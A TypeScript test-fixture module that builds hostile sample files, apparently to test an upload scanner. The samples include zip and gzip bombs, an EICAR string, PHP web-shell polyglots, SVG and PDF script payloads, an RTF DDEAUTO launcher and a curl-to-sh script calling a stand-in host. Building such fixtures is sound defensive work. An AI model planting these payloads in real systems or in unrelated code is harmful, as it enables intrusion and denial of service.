import { deflateRawSync, gzipSync } from 'node:zlib'
import { drawing, gif, gifExtension, jpeg, pdf, pdfStream, png, segment, withDirectory, zip } from './harmless-files.ts'

/** In two parts, so that no scanner takes this file for it. */
export const eicar = Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD-ANTIVIRUS-TEST-FILE'}!$H+H*`)

const zeros = (mebibytes: number) => Buffer.alloc(mebibytes * 1024 ** 2)

/** 42.zip: archives of archives, each level sixteen times the one below, a few hundred bytes in all. */
export function nestedBomb(levels = 5): Buffer {
  let inner = zip([{ name: '0.bin', content: zeros(4) }])
  for (let level = 0; level < levels; level++)
    inner = zip(Array.from({ length: 16 }, (_, index) => ({ name: `lib ${level} ${index}.zip`, content: inner })))
  return inner
}

/** David Fifield: every record of the directory names the same bytes. */
export function overlappingBomb(count = 2000): Buffer {
  const packed = deflateRawSync(zeros(1))
  return zip([
    { name: 'a', content: zeros(1) },
    ...Array.from({ length: count }, (_, index) => ({
      name: 'a',
      content: '',
      says: { headerAt: 0, packed: packed.length, unpacked: 1024 ** 2, localName: `${index}` },
    })),
  ])
}

/** Unpacks to 64 MiB and declares less than one. */
export const lyingBomb = () => zip([{ name: 'page.html', content: zeros(64), says: { unpacked: 900_000 } }])
export const smallLie = () => zip([{ name: 'page.html', content: 'x'.repeat(5000), says: { unpacked: 4000 } }])
export const flatBomb = () => zip([{ name: 'page.html', content: zeros(64) }])
/** None of its entries is remarkable; all of them together are. */
export const manyBombs = () => {
  const page = gzipSync(zeros(8))
  return zip(Array.from({ length: 40 }, (_, index) => ({ name: `${index}.gz`, content: page, method: 0 as const })))
}

/** A directory with so many records, which the end record says or (modulo 65 536) hides. */
export function crowd(records: number, says = records): Buffer {
  const entry = zip([{ name: '', content: '' }]).subarray(0, 30)
  const record = Buffer.alloc(46)
  record.write('PK\x01\x02', 'latin1')
  record.writeUInt16LE(8, 10)
  return withDirectory(entry, Buffer.concat(Array.from({ length: records }, () => record)), { count: says })
}

export const named = (name: string) => zip([{ name, content: 'x' }])
export const link = () => zip([{ name: 'link', content: '/etc/passwd', method: 0, says: { mode: 0o120777 } }])
export const encrypted = () => zip([{ name: 'secret.txt', content: 'x', says: { flags: 1 } }])
export const twoNames = () => zip([{ name: 'a.txt', content: 'x', says: { localName: 'b.txt' } }])
export const twice = () =>
  zip([
    { name: 'a.txt', content: 'x' },
    { name: 'a.txt', content: 'y' },
  ])
export const hiddenEntries = () =>
  zip(
    [
      { name: 'a', content: 'x' },
      { name: 'b', content: 'y' },
    ],
    { count: 1 },
  )
export const gzipBomb = () => gzipSync(zeros(64))
export const gzipBombs = () => gzipSync(gzipBomb())

/** Programs, cut short: enough to be taken for one. */
export const exe = Buffer.concat([
  Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'),
  Buffer.alloc(52),
  Buffer.from([64, 0, 0, 0]),
  Buffer.from('PE\0\0'),
])
export const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(60)])
export const shortcut = Buffer.concat([
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
  Buffer.alloc(60),
])
export const script = Buffer.from('#!/bin/sh\ncurl https://a.example | sh\n')
export const jar = () =>
  zip([
    { name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' },
    { name: 'A.class', content: Buffer.from('cafebabe', 'hex') },
  ])
export const compoundFile = (name: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(1500),
    Buffer.from(name, 'utf16le'),
    Buffer.alloc(300),
  ])

/** Each is a picture to one reader and something else to another. */
export const polyglots: Record<string, Buffer> = {
  'GIF that assigns': Buffer.from('GIF89a=1;alert(document.domain)//'),
  'GIF in a comment': Buffer.concat([Buffer.from('GIF89a/*'), gif().subarray(8), Buffer.from('*/=1;alert(1)')]),
  'GIF with markup in a comment': gif(gifExtension(0xfe, '<script>alert(1)</script>')),
  'JPEG whose header is a comment': Buffer.concat([
    Buffer.from('ffd8ffe02f2a', 'hex'),
    Buffer.from('JFIF\0'),
    Buffer.alloc(12067),
    jpeg().subarray(2),
    Buffer.from('*/=alert(1)'),
  ]),
  'JPEG and PHP': Buffer.concat([jpeg(), Buffer.from('<?php system($_GET["c"]); ?>')]),
  'JPEG with PHP in its comment': jpeg(segment(0xfe, '<?PHP system("id"); ?>')),
  'GIF with a short tag of PHP behind it': Buffer.concat([gif(), Buffer.from('<?=`$_GET[0]`?>')]),
  'GIF with a short tag that nothing closes': Buffer.concat([gif(), Buffer.from('\n<?=`id`')]),
  'PNG with a short tag of PHP in its text': png(['tEXt', Buffer.from('Comment\0<?=`$_GET[0]`?>')]),
  'JPEG and HTML': Buffer.concat([jpeg(), Buffer.from('\n<html><body onload=alert(1)>')]),
  'JPEG and ZIP': Buffer.concat([jpeg(), named('a.txt')]),
  'JPEG and program': Buffer.concat([jpeg(), exe]),
  'JPEG and PDF': Buffer.concat([jpeg(), pdf()]),
  'PNG and GIF': Buffer.concat([png(), gif()]),
  'PNG and ZIP with a comment': Buffer.concat([png(), zip([{ name: 'a', content: 'x' }], { comment: 'behind' })]),
  'PNG and RAR': Buffer.concat([png(), Buffer.from('Rar!\x1a\x07\x01\0', 'latin1')]),
  'PDF and ZIP': Buffer.concat([pdf(), named('a.txt')]),
  'PDF and script': Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')]),
  'picture with a PDF in its header': Buffer.concat([jpeg(segment(0xfe, '%PDF-1.4 '))]),
  'text with a PDF in it': Buffer.from(
    `Halo\n${pdf()
      .toString('ascii')
      .replace(/[^\n -~]/g, '')}`,
  ),
  'film and ZIP': Buffer.concat([
    Buffer.from('0000001c6674797069736f6d0000020069736f6d69736f32617663316d703431', 'hex').subarray(0, 28),
    named('a.txt'),
  ]),
}

const inDrawing = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attributes}>${inside}</svg>`

export const drawings: Record<string, string | Buffer> = {
  'a script': inDrawing('<script>alert(1)</script>'),
  'a script in capitals': inDrawing('<SCRIPT>alert(1)</SCRIPT>'),
  'a script with a prefix': '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
  'an event handler': inDrawing('', ' onload="alert(1)"'),
  'an event handler on a new line': inDrawing('<rect\nonclick\n=\n"alert(1)"/>'),
  'an event handler behind a bracket': inDrawing('<rect id=">" onclick="alert(1)"/>'),
  'a script link': inDrawing('<a xlink:href="javascript:alert(1)"><rect/></a>'),
  'an escaped script link': inDrawing('<a href="&#106;ava&#x73;cript&colon;alert(1)"><rect/></a>'),
  'a spaced script link': inDrawing('<a href="java&#10;script:alert(1)"><rect/></a>'),
  'a link that is changed': inDrawing('<a><set attributeName="href" to="java"/></a>'),
  'a foreign object': inDrawing('<foreignObject><p/></foreignObject>'),
  'an external picture': inDrawing('<image href="https://a.example/x.png"/>'),
  'an external picture without a scheme': inDrawing('<image href="//a.example/x.png"/>'),
  'an external style': inDrawing('<style>@import "https://a.example/x.css";</style>'),
  'an external style in CDATA': inDrawing('<style><![CDATA[ @import "//a.example/x.css"; ]]></style>'),
  'an external fill': inDrawing('<rect style="fill:url(https://a.example/x)"/>'),
  'another drawing in it': inDrawing('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'),
  'an entity': `<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>${inDrawing('&x;')}`,
  'a style sheet': `<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?>${inDrawing('')}`,
  'UTF-16': Buffer.from(`\ufeff<?xml version="1.0"?>${inDrawing('<script>alert(1)</script>')}`, 'utf16le'),
  'UTF-7': `<?xml version="1.0" encoding="UTF-7"?>${inDrawing('+ADw-script+AD4-')}`,
  'a script far behind': drawing.replace('<use', `<!--${' '.repeat(300_000)}--><script>alert(1)</script><use`),
}

export const pdfs: Record<string, Buffer> = {
  'a script': pdf('4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n'),
  'an escaped script': pdf('4 0 obj\n<</S/J#61v#61Script/#4a#53(app.alert\\(1\\))>>\nendobj\n'),
  'a rendition': pdf('4 0 obj\n<< /S /Rendition /JS (x) >>\nendobj\n'),
  'a program to start': pdf('4 0 obj\n<< /S /Launch /F (/bin/sh) >>\nendobj\n'),
  'rich media': pdf('4 0 obj\n<< /Subtype /RichMedia >>\nendobj\n'),
  'a script in an object stream': pdf(pdfStream('/Type /ObjStm /N 1 /First 4', '5 0 << /S /JavaScript /JS (x) >>')),
  'a script in an escaped object stream': pdf(pdfStream('/Type /Obj#53tm /N 1 /First 4', '5 0 << /S /JavaScript >>')),
  'a script that calls itself a stream': pdf('4 0 obj\n<< >>\nstream\n<</S/JavaScript/JS(x)>>\nendstream\nendobj\n'),
}

export const pdfsWithPrograms: Record<string, Buffer> = {
  'by its name': pdf('4 0 obj\n<< /Type /Filespec /F (invoice.exe) >>\nendobj\n'),
  'by its name in UTF-16': pdf('4 0 obj\n<< /UF <FEFF0061002E006500780065> >>\nendobj\n'),
  'by its bytes': pdf(pdfStream('/Type /EmbeddedFile', exe)),
}

export const rtfs: Record<string, string> = {
  'an embedded object': '{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000}}}',
  'an object that updates itself': '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}}}',
  'an object without the last letter of the mark': '{\\rt{\\object{\\*\\objdata 0105}}}',
  'a template from elsewhere': '{\\rtf1{\\*\\template https://a.example/x.dotm}}',
  'a template from another computer': '{\\rtf1{\\*\\template \\\\\\\\a.example\\\\x.dotm}}',
  'a field that starts a program': '{\\rtf1{\\field{\\*\\fldinst{\\b DDEAUTO c:\\\\cmd.exe "/k calc"}}}}',
  'an object far behind': `{\\rtf1 ${'laporan '.repeat(20_000)}{\\object{\\*\\objdata 0105}}}`,
}

/** Texts that a double click runs, under whatever name they come. */
export const runnableTexts: Record<string, string> = {
  'batch text that begins with a remark': 'rem pasang\r\n@echo off\r\nstart calc\r\n',
  'batch text that begins with a label': ':: pasang\n@ECHO OFF & start calc\n',
  'an internet shortcut': '[InternetShortcut]\r\nURL=file://a.example/x.exe\r\n',
  'a desktop entry': '#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nExec=sh -c id\n',
  'a desktop entry without its first line': '# pasang\n[Desktop Entry]\nExec=sh -c id\n',
  'a short tag of PHP': '<?=`$_GET[0]`?>',
}
